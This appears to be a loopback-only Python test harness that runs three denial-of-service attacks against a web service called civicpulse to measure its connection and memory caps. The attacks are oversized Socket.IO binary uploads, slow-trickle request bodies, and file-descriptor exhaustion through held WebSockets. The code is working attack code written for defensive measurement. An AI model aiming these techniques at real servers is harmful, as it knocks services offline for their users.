#!/usr/bin/env python3
"""The attacks of issue 11's findings, against a running civicpulse, to
measure what the caps leave of them. Standard library only; loopback only.

  attack.py binary   --url http://127.0.0.1:PORT --pid PID [--sockets 20 --attachments 10 --send 9 --size 900000]
  attack.py slowbody --url … [--connections 1000 --duration 30 --source 127.0.0.2]
  attack.py fds      --url … [--max 20000 --source 127.0.0.2 --pid PID --hold 10]

Each prints one JSON object with its figures. `binary` reads the server's
memory from /proc/PID/status (VmRSS now, VmHWM its peak).
"""

import argparse
import json
import os
import resource
import select
import socket
import sys
import time
import urllib.request
from urllib.parse import urlparse

UPGRADE = (
    "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: civicpulse\r\n"
    "Upgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)


def target(url):
    parsed = urlparse(url)
    if parsed.hostname not in ("127.0.0.1", "localhost"):
        sys.exit("loopback targets only")
    return ("127.0.0.1", parsed.port)


def connect(addr, source=None, timeout=10):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if source:
        s.bind((source, 0))
    s.settimeout(timeout)
    s.connect(addr)
    return s


def ws_frame(opcode, payload):
    """A masked client frame. The mask key is zero (valid, and the payload
    needs no XOR: this is about sizes, not secrecy)."""
    n = len(payload)
    if n < 126:
        head = bytes([0x80 | opcode, 0x80 | n])
    elif n < 65536:
        head = bytes([0x80 | opcode, 0x80 | 126]) + n.to_bytes(2, "big")
    else:
        head = bytes([0x80 | opcode, 0x80 | 127]) + n.to_bytes(8, "big")
    return head + b"\0\0\0\0" + payload


def read_frame(s):
    """One server frame (unmasked): (opcode, payload), or None at the end."""

    def exact(n):
        out = b""
        while len(out) < n:
            chunk = s.recv(n - len(out))
            if not chunk:
                raise EOFError
            out += chunk
        return out

    try:
        b0, b1 = exact(2)
        n = b1 & 0x7F
        if n == 126:
            n = int.from_bytes(exact(2), "big")
        elif n == 127:
            n = int.from_bytes(exact(8), "big")
        return b0 & 0x0F, exact(n)
    except (EOFError, OSError):
        return None


def open_ws(addr, source=None, timeout=10):
    """An Engine.IO WebSocket: (socket, status line); the OPEN read on 101."""
    s = connect(addr, source, timeout)
    s.sendall(UPGRADE.encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            break
        head += chunk
    status = head.split(b"\r\n", 1)[0].decode(errors="replace")
    if " 101 " in status:
        rest = head.split(b"\r\n\r\n", 1)[1]
        if not rest:
            read_frame(s)  # OPEN
    return s, status


def http(url, path, method="GET", body=None, timeout=10):
    req = urllib.request.Request(url + path, method=method, data=body)
    if body is not None:
        req.add_header("Content-Type", "application/json")
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(req, timeout=timeout) as res:
            return res.status, res.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
    except OSError as e:
        return None, str(e)


def metrics(url):
    status, text = http(url, "/metrics")
    out = {}
    if status == 200:
        for line in text.splitlines():
            if line.startswith("civicpulse_") and "{" not in line:
                name, value = line.rsplit(" ", 1)
                out[name] = float(value)
    return out


def mib(kb):
    return round(kb / 1024, 1)


def memory(pid):
    fields = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                fields[key] = int(value.split()[0])
    return {"rss_mib": mib(fields["VmRSS"]), "peak_rss_mib": mib(fields["VmHWM"])}


def cpu_seconds(pid):
    """User and system time of a process so far."""
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def register(url):
    email = f"attacker-{os.getpid()}-{time.time_ns()}@example.com"
    body = json.dumps({"email": email, "password": "correct horse battery", "displayName": "Attacker"})
    status, text = http(url, "/api/auth/register", "POST", body.encode())
    if status != 201:
        sys.exit(f"register: {status} {text}")
    return json.loads(text)["accessToken"]


def binary(args):
    addr = target(args.url)
    token = register(args.url)
    before = memory(args.pid)
    placeholders = ",".join(f'{{"_placeholder":true,"num":{i}}}' for i in range(args.attachments))
    header = f'45{args.attachments}-["upload",{placeholders}]'.encode()
    attachment = ws_frame(0x2, b"\x01" * args.size)
    sockets, refused = [], {}
    for _ in range(args.sockets):
        s, status = open_ws(addr)
        assert " 101 " in status, status
        s.sendall(ws_frame(0x1, b'40{"token":"%s"}' % token.encode()))
        reply = read_frame(s)
        assert reply and reply[1].startswith(b'40{"sid"'), reply
        s.sendall(ws_frame(0x1, header))
        sent = 0
        try:
            for _ in range(args.send):
                s.sendall(attachment)
                sent += 1
        except OSError:
            pass
        sockets.append((s, sent))
    time.sleep(args.hold)
    during = memory(args.pid)
    open_now, errors = 0, {}
    for s, _ in sockets:
        s.setblocking(False)
        try:
            while True:
                frame = read_frame_nonblocking(s)
                if frame is None:
                    break
                if frame[0] == 0x1 and frame[1].startswith(b"44"):
                    code = json.loads(frame[1][2:])["data"]["code"]
                    errors[code] = errors.get(code, 0) + 1
                if frame[0] == 0x8:
                    raise EOFError
            open_now += 1
        except (EOFError, OSError):
            pass
    m = metrics(args.url)
    for s, _ in sockets:
        s.close()
    return {
        "scenario": "binary",
        "sockets": args.sockets,
        "attachments_declared": args.attachments,
        "attachments_sent": args.send,
        "attachment_bytes": args.size,
        "server_before": before,
        "server_holding": during,
        "held_by_attack_mib": round(during["rss_mib"] - before["rss_mib"], 1),
        "sockets_still_open": open_now,
        "connect_errors_seen": errors,
        "binary_packet_refusals": m.get("civicpulse_binary_packet_refusals_total"),
        "binary_budget_refusals": m.get("civicpulse_binary_budget_refusals_total"),
        "pending_binary_bytes": m.get("civicpulse_pending_binary_bytes"),
    }


def read_frame_nonblocking(s):
    """A frame already received, or None when nothing is waiting."""
    try:
        peek = s.recv(2, socket.MSG_PEEK)
    except BlockingIOError:
        return None
    if not peek:
        raise EOFError
    s.setblocking(True)
    s.settimeout(2)
    try:
        frame = read_frame(s)
    finally:
        s.setblocking(False)
    if frame is None:
        raise EOFError
    return frame


def slowbody(args):
    addr = target(args.url)
    head = (
        "POST /api/auth/login HTTP/1.1\r\nHost: civicpulse\r\nContent-Type: application/json\r\n"
        "Content-Length: 100000\r\n\r\n{"
    ).encode()
    conns = {}
    start = time.monotonic()
    for _ in range(args.connections):
        s = connect(addr, args.source)
        s.sendall(head)
        s.setblocking(False)
        conns[s.fileno()] = {"sock": s, "closed_at": None, "status": None}
    opened = time.monotonic() - start
    checkpoints = sorted(set(range(5, args.duration + 1, 5)) | {args.duration})
    open_at, health = {}, {}
    next_byte = time.monotonic() + 1
    while True:
        now = time.monotonic() - start
        if checkpoints and now >= checkpoints[0]:
            t = checkpoints.pop(0)
            open_at[t] = sum(1 for c in conns.values() if c["closed_at"] is None)
            health[t] = http(args.url, "/healthz", timeout=5)[0]
        if not checkpoints:
            break
        live = [c["sock"] for c in conns.values() if c["closed_at"] is None]
        readable = select.select(live, [], [], 0.2)[0] if live else time.sleep(0.2) or []
        for s in readable:
            c = conns[s.fileno()]
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if data and c["status"] is None:
                c["status"] = data.split(b" ", 2)[1].decode(errors="replace")
            if not data:
                c["closed_at"] = time.monotonic() - start
        if time.monotonic() >= next_byte:
            next_byte += 1
            for c in conns.values():
                if c["closed_at"] is None:
                    try:
                        c["sock"].send(b" ")
                    except OSError:
                        c["closed_at"] = time.monotonic() - start
    statuses = {}
    for c in conns.values():
        statuses[c["status"] or "none"] = statuses.get(c["status"] or "none", 0) + 1
    closed = sorted(c["closed_at"] for c in conns.values() if c["closed_at"] is not None)
    m = metrics(args.url)
    for c in conns.values():
        c["sock"].close()
    return {
        "scenario": "slowbody",
        "connections": args.connections,
        "seconds_to_open_them": round(opened, 1),
        "still_open_at_seconds": open_at,
        "healthz_status_at_seconds": health,
        "responses": statuses,
        "first_closed_at_s": round(closed[0], 1) if closed else None,
        "last_closed_at_s": round(closed[-1], 1) if closed else None,
        "body_timeouts": m.get("civicpulse_body_timeouts_total"),
    }


def fds(args):
    addr = target(args.url)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held, statuses = [], {}
    first_refusal = None
    start = time.monotonic()
    while len(held) + 32 < hard and len(held) < args.max:
        try:
            s, status = open_ws(addr, args.source, timeout=args.timeout)
        except OSError as e:
            status = type(e).__name__
            s = None
        key = status.split(" ", 2)[1] if status.startswith("HTTP/") else status
        statuses[key] = statuses.get(key, 0) + 1
        if key == "101":
            held.append(s)
        else:
            if s:
                s.close()
            first_refusal = first_refusal or len(held)
            # Refused: a few more to see it stays so, then stop.
            if sum(v for k, v in statuses.items() if k != "101") >= args.refusals:
                break
    elapsed = time.monotonic() - start
    # While they are held: what the server spends (a busy accept loop would
    # show here), and what it logs.
    cpu_before = cpu_seconds(args.pid) if args.pid else None
    time.sleep(args.hold)
    cpu_during_hold = round(cpu_seconds(args.pid) - cpu_before, 2) if args.pid else None
    probes = {}
    for source in ("127.0.0.1", args.source):
        for path in ("/healthz", "/readyz", "/metrics", "/api/issues"):
            s = None
            try:
                s = connect(addr, source, 3)
                s.sendall(f"GET {path} HTTP/1.1\r\nHost: c\r\nConnection: close\r\n\r\n".encode())
                line = s.recv(4096).split(b"\r\n", 1)[0].decode()
                probes[f"{source} {path}"] = line.split(" ", 2)[1] if line else "closed"
            except OSError as e:
                probes[f"{source} {path}"] = type(e).__name__
            finally:
                if s:
                    s.close()
    m = metrics(args.url)
    for s in held:
        s.close()
    time.sleep(1)
    after = {"healthz": http(args.url, "/healthz")[0], "api": http(args.url, "/api/issues")[0]}
    # Out of descriptors, /metrics could not be read while they were held.
    m = m or metrics(args.url)
    return {
        "scenario": "fds",
        "client_descriptor_limit": hard,
        "sockets_held": len(held),
        "seconds_to_open": round(elapsed, 1),
        "answers": statuses,
        "probes_while_held": probes,
        "hold_seconds": args.hold,
        "server_cpu_seconds_during_hold": cpu_during_hold,
        "after_close_healthz": after["healthz"],
        "after_close_api": after["api"],
        "server_max_connections": m.get("civicpulse_max_connections"),
        "server_open_connections": m.get("civicpulse_open_connections"),
        "address_refusals": m.get("civicpulse_address_connection_refusals_total"),
        "capacity_refusals": m.get("civicpulse_capacity_refusals_total"),
        "reserve_drops": m.get("civicpulse_reserve_drops_total"),
        "accept_errors": m.get("civicpulse_accept_errors_total"),
    }


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="scenario", required=True)
    b = sub.add_parser("binary")
    b.add_argument("--url", required=True)
    b.add_argument("--pid", required=True, type=int)
    b.add_argument("--sockets", type=int, default=20)
    b.add_argument("--attachments", type=int, default=10)
    b.add_argument("--send", type=int, default=9)
    b.add_argument("--size", type=int, default=900_000)
    b.add_argument("--hold", type=float, default=3)
    s = sub.add_parser("slowbody")
    s.add_argument("--url", required=True)
    s.add_argument("--connections", type=int, default=1000)
    s.add_argument("--duration", type=int, default=30)
    s.add_argument("--source", default="127.0.0.2")
    f = sub.add_parser("fds")
    f.add_argument("--url", required=True)
    f.add_argument("--max", type=int, default=20000)
    f.add_argument("--source", default="127.0.0.2")
    f.add_argument("--refusals", type=int, default=20)
    f.add_argument("--pid", type=int)
    f.add_argument("--hold", type=float, default=0)
    f.add_argument("--timeout", type=float, default=3)
    args = p.parse_args()
    result = {"binary": binary, "slowbody": slowbody, "fds": fds}[args.scenario](args)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
